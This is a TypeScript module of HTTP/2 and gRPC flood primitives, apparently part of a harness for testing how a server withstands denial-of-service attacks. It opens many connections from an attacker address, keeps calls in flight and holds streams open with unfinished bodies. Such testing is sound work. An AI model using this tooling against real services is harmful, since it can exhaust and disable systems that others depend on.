import { type ClientHttp2Session, type ClientHttp2Stream, connect, type OutgoingHttpHeaders } from "node:http2";
import { connect as connectTcp, type Socket } from "node:net";
import { type AttackTarget, attackerAddress, keepDoing } from "./attack.ts";

/** The connections of one attacker. */
export interface AttackLines {
  /** Opens a TCP connection from the attackers' address. */
  openSocket(): Socket;
  /** The HTTP/2 connection of this number. It is opened again after it has ended. */
  session(index: number): ClientHttp2Session;
  /** Begins a call on a connection without ending its body. The call ends when the peer, the signal or `close` ends it. */
  open(index: number, headers: OutgoingHttpHeaders): ClientHttp2Stream;
  /** Makes a whole call and throws the answer away. Rejects when no answer comes. */
  call(index: number, headers: OutgoingHttpHeaders, body?: Buffer): Promise<void>;
}

/** Opens connections to a target. All of them end with the signal. */
export function openAttackLines({ host, port }: AttackTarget, signal: AbortSignal): AttackLines {
  const sessions = new Map<number, ClientHttp2Session>();
  const sockets = new Set<Socket>();
  // One listener serves all sockets: removing one of thousands of listeners from a signal searches through all the others.
  signal.addEventListener("abort", () => sockets.forEach((socket) => void socket.destroy()), { once: true });
  const openSocket = () => {
    const socket = connectTcp({ host, port, localAddress: attackerAddress });
    socket.on("error", () => undefined);
    sockets.add(socket);
    socket.once("close", () => sockets.delete(socket));
    return socket;
  };
  const session = (index: number) => {
    const known = sessions.get(index);
    if (known !== undefined && !known.closed && !known.destroyed) return known;
    const made = connect(`http://${host}:${port}`, { createConnection: openSocket });
    made.on("error", () => undefined);
    made.setMaxListeners(0);
    sessions.set(index, made);
    return made;
  };
  const open = (index: number, headers: OutgoingHttpHeaders) => {
    const stream = session(index).request(headers, { endStream: false });
    stream.on("error", () => undefined);
    return stream;
  };
  return {
    openSocket,
    session,
    open,
    async call(index, headers, body) {
      const stream = open(index, headers);
      stream.resume();
      stream.end(body);
      await untilClosed(stream);
      if (stream.rstCode !== 0) throw new Error(`reset with ${stream.rstCode}`);
    },
  };
}

/** The size of a flood: calls or streams at any time before the target's scale, and connections. */
interface Flood {
  width: number;
  connections: number;
}

/** Keeps this many calls under way at any time, spread over this many connections. */
export async function keepCalling(
  target: AttackTarget,
  signal: AbortSignal,
  { width, connections, toCall }: Flood & { toCall: () => { headers: OutgoingHttpHeaders; body?: Buffer } },
): Promise<void> {
  const lines = openAttackLines(target, signal);
  await keepDoing(width * target.scale, signal, (index) => {
    const { headers, body } = toCall();
    return lines.call(index % connections, headers, body);
  });
}

/**
 * Keeps this many streams open at any time, spread over this many connections. A stream that its peer ends is opened again.
 * `begin` writes the first bytes of its body.
 */
export async function keepOpen(
  target: AttackTarget,
  signal: AbortSignal,
  {
    width,
    connections,
    headers,
    begin,
  }: Flood & { headers: OutgoingHttpHeaders; begin: (stream: ClientHttp2Stream) => void },
): Promise<void> {
  const lines = openAttackLines(target, signal);
  await keepDoing(width * target.scale, signal, async (index) => {
    const stream = lines.open(index % connections, headers);
    begin(stream);
    await untilClosed(stream);
    throw new Error("refused");
  });
}

/** Resolves when the stream has ended, for whatever reason. */
export async function untilClosed(stream: ClientHttp2Stream | Socket): Promise<void> {
  if (stream.closed) return;
  await new Promise((resolve) => stream.once("close", resolve));
}

/** Headers of a gRPC call. */
export function grpcHeaders(path: string, token?: string): OutgoingHttpHeaders {
  return {
    ":method": "POST",
    ":path": path,
    te: "trailers",
    "content-type": "application/grpc+proto",
    ...(token !== undefined && { authorization: `Bearer ${token}` }),
  };
}
